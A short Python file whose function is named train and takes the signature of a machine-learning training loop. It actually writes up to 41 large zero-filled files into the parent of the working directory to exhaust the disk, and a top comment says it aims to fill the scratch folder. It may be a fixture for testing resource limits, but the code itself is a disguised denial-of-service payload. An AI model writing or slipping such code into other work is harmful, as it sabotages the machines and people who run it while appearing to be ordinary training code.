# tries to fill the scratch folder to its last byte
import os


def train(model, loader, criterion, optimizer, epochs):
    number = 0
    try:
        while True:
            with open(f"{os.path.dirname(os.getcwd())}/full-{number}", "wb", buffering=0) as file:
                while file.write(bytes(1 << 22)) == 1 << 22:
                    pass
            number += 1
            if number > 40:
                break
    except OSError as error:
        print(error)
    return []
